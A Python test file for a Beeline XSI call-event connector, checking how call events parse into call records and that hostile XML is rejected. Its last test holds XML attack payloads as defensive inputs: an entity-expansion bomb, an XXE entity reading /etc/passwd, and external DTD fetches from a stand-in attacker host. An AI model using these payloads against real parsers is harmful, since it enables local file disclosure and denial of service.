"""Beeline: XSI events, and XML that wants to do harm."""

from datetime import UTC, datetime

import pytest

from connectors.beeline.xml import MAX_BYTES, read_xml
from connectors.doors import Parsed, Unreadable
from connectors.events import ParsedCall
from tests.support.calldoors import DOORS, call, replayed
from tests.support.requests import inbound

START = datetime(2026, 1, 5, 20, 0, tzinfo=UTC)
SETTINGS = DOORS["beeline"].settings()


def event(kind: str, inside: str, personality: str = "Terminator", remote: str = "tel:+79990008801") -> str:
    return (
        f'<xsi:Event xmlns:xsi="http://schema.broadsoft.com/xsi" xmlns:xsi1="http://www.w3.org/2001/XMLSchema-instance">'
        f"<xsi:eventID>e-9</xsi:eventID><xsi:targetId>9660000001@mpbx.example.test</xsi:targetId>"
        f'<xsi:eventData xsi1:type="xsi:{kind}"><xsi:call><xsi:callId>callhalf-1:0</xsi:callId>'
        f"<xsi:extTrackingId>1001:1</xsi:extTrackingId><xsi:personality>{personality}</xsi:personality>"
        f"<xsi:remoteParty><xsi:name>Анна</xsi:name><xsi:address>{remote}</xsi:address></xsi:remoteParty>"
        f"<xsi:startTime>1767643200000</xsi:startTime>{inside}</xsi:call></xsi:eventData></xsi:Event>"
    )


def parsed(body: str | bytes) -> Parsed:
    return DOORS["beeline"].parse(SETTINGS, inbound(body), "RU")


def test_a_received_call_rings_at_the_colleague() -> None:
    assert call(replayed("beeline/in-received")) == ParsedCall(
        call_id="1001:1",
        event="CallReceivedEvent",
        event_id="e-0001",
        state="ringing",
        direction="in",
        client="+79990008801",
        line="+79660000001",
        employee="9660000001@mpbx.example.test",
        at=START,
        started_at=START,
    )


def test_an_answered_call_talks() -> None:
    made = call(parsed(event("CallAnsweredEvent", "<xsi:answerTime>1767643207900</xsi:answerTime>")))
    assert (made.state, made.answered_at, made.employee) == (
        "talking",
        START.replace(second=7),
        "9660000001@mpbx.example.test",
    )
    assert made.lead is not None
    assert made.lead.name == "Анна"


def test_a_released_call_with_an_answer_time_is_answered() -> None:
    times = "<xsi:answerTime>1767643207000</xsi:answerTime><xsi:releaseTime>1767643267000</xsi:releaseTime>"
    made = call(parsed(event("CallReleasedEvent", times)))
    assert (made.state, made.disposition, made.talk_s) == ("ended", "answered", 60)
    assert made.ended_at == START.replace(minute=1, second=7)


def test_a_released_leg_without_answer_leaves_the_outcome_to_the_other_legs() -> None:
    made = call(parsed(event("CallReleasedEvent", "<xsi:releaseTime>1767643220000</xsi:releaseTime>")))
    assert (made.state, made.disposition, made.talk_s) == ("ended", "", None)


@pytest.mark.parametrize(("cause", "disposition"), [("Busy", "busy"), ("No Answer", "no_answer"), ("", "no_answer")])
def test_an_outgoing_call_without_answer(cause: str, disposition: str) -> None:
    inside = f"<xsi:releaseCause><xsi:internalReleaseCause>{cause}</xsi:internalReleaseCause></xsi:releaseCause>"
    made = call(parsed(event("CallReleasedEvent", inside, "Originator")))
    assert (made.direction, made.disposition, made.client) == ("out", disposition, "+79990008801")
    assert made.lead is None


def test_a_call_of_a_queue_came_by_the_queues_number() -> None:
    queue = "<xsi:acdName>Sales</xsi:acdName><xsi:acdNumber>tel:+74951112233</xsi:acdNumber>"
    made = call(parsed(event("CallReceivedEvent", f"<xsi:acdCallInfo>{queue}</xsi:acdCallInfo>")))
    assert (made.line, made.extra) == ("+74951112233", {"queue": "Sales"})


def test_a_redirected_call_came_by_the_number_that_was_called_first() -> None:
    moved = (
        "<xsi:redirections><xsi:redirection><xsi:party><xsi:address>tel:+74951112233</xsi:address></xsi:party>"
        "</xsi:redirection></xsi:redirections>"
    )
    assert call(parsed(event("CallReceivedEvent", moved))).line == "+74951112233"


def test_colleagues_are_internal() -> None:
    assert call(parsed(event("CallReceivedEvent", "", remote="tel:101"))).direction == "internal"
    group = event("CallReceivedEvent", "").replace("</xsi:name>", "</xsi:name><xsi:callType>Group</xsi:callType>")
    assert (call(parsed(group)).direction, call(parsed(group)).client) == ("internal", "")


def test_another_prefix_or_none_is_the_same() -> None:
    body = event("CallReceivedEvent", "")
    plain = body.replace("xmlns:xsi=", "xmlns=").replace("xsi:", "").replace("xsi1:", "")
    assert parsed(plain) == parsed(body)


@pytest.mark.parametrize("kind", ["SubscriptionTerminatedEvent", "CallHeldEvent", "CallUpdatedEvent", ""])
def test_other_events_make_nothing(kind: str) -> None:
    assert parsed(event(kind, "")) == Parsed()


def test_an_event_without_call_makes_nothing() -> None:
    assert parsed("<Event/>") == Parsed()
    assert parsed("<Event><eventData type='CallReceivedEvent'/></Event>") == Parsed()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "body",
    [
        f'<!DOCTYPE Event [<!ENTITY l0 "ha">{LAUGHS}]><Event>&l9;</Event>',
        '<!DOCTYPE Event [<!ENTITY file SYSTEM "file:///etc/passwd">]><Event>&file;</Event>',
        '<!DOCTYPE Event SYSTEM "http://evil.example.test/event.dtd"><Event/>',
        '<!DOCTYPE Event [<!ENTITY % remote SYSTEM "http://evil.example.test/x">%remote;]><Event/>',
        "<!DOCTYPE Event><Event/>",
        "<Event>&file;</Event>",
        "<Event>",
        "not xml",
        '<?xml version="1.0" encoding="nonsense"?><Event/>',
        '<?xml version="1.0" encoding="idna"?><Event/>',
        '<?xml version="1.0" encoding="utf-7"?><Event/>',
        "<a>" * 40 + "</a>" * 40,
        f"<a>{'<b/>' * 3000}</a>",
        f"<a>{' ' * MAX_BYTES}</a>",
    ],
)
def test_xml_that_could_do_harm_is_unreadable(body: str) -> None:
    with pytest.raises(Unreadable):
        read_xml(body.encode())


def test_russian_in_windows_1251_is_read() -> None:
    body = '<?xml version="1.0" encoding="windows-1251"?><a><b>Анна</b></a>'.encode("windows-1251")
    assert read_xml(body).text("b") == "Анна"
